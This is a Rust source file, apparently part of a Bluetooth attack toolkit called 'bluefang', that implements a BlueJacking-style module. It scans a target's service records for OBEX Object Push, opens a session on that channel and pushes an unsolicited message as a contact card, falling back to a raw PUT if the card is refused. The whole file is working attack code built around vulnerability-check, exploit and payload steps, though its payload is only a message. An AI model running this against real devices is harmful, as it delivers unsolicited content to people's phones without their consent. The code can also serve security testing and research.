//! Unsolicited messaging (BlueJacking-style).

use async_trait::async_trait;

use bluefang_codec::obex;
use bluefang_common::{AttackKind, BdAddr, BlueResult, Transport};
use bluefang_fingerprint::{channel_for_service, parse_service_records};

use crate::module::{AttackContext, AttackModule};
use crate::obex_session::ObexSession;
use crate::payloads::message_card;
use crate::probe;

const DEFAULT_PUSH_CHANNEL: u16 = 9;
const CARD_NAME: &str = "bluefang.vcf";
const RAW_NAME: &str = "msg.txt";

#[derive(Default)]
pub struct Message {
    push_channel: Option<u16>,
    session: Option<ObexSession>,
}

impl Message {
    pub fn new() -> Self {
        Self::default()
    }

    fn channel(&self) -> u16 {
        self.push_channel.unwrap_or(DEFAULT_PUSH_CHANNEL)
    }

    /// Single raw PUT on the push channel; any answer counts.
    async fn push_raw(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let frame = obex::put(RAW_NAME, ctx.config.default_message.as_bytes());
        let reply = probe::exchange(ctx, target, Transport::Rfcomm, self.channel(), &frame).await?;
        Ok(reply.is_some())
    }
}

#[async_trait]
impl AttackModule for Message {
    fn kind(&self) -> AttackKind {
        AttackKind::Message
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let Some(text) = probe::browse(ctx, target).await? else {
            return Ok(false);
        };
        let lower = text.to_lowercase();
        if !(lower.contains("obex") || lower.contains("object push")) {
            return Ok(false);
        }
        self.push_channel = channel_for_service(&parse_service_records(&text), "object push").map(u16::from);
        ctx.log.info(format!("Object push service found on channel {}", self.channel()));
        Ok(true)
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let channel = self.channel();
        if let Some(session) = ObexSession::connect(ctx, target, channel).await? {
            ctx.log.info(format!("OBEX session open on channel {}", channel));
            self.session = Some(session);
            return Ok(true);
        }
        ctx.log.warning("OBEX CONNECT unanswered, will try a raw push");
        Ok(probe::open(ctx, target, Transport::Rfcomm, channel)
            .await?
            .is_some())
    }

    async fn run_payload(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let message = &ctx.config.default_message;
        ctx.log.info(format!("Pushing message: {}", message));

        if let Some(mut session) = self.session.take() {
            let card = message_card(message);
            if session.put(ctx, CARD_NAME, card.as_bytes()).await? {
                session.disconnect(ctx).await?;
                ctx.log.success("Message delivered as a contact card");
                return Ok(true);
            }
            ctx.log.warning("Card push refused, trying a raw push");
        }

        ctx.cancel.check()?;
        if self.push_raw(target, ctx).await? {
            ctx.log.success("Message delivered through raw push");
            Ok(true)
        } else {
            ctx.log.warning("No answer to raw push");
            Ok(false)
        }
    }
}
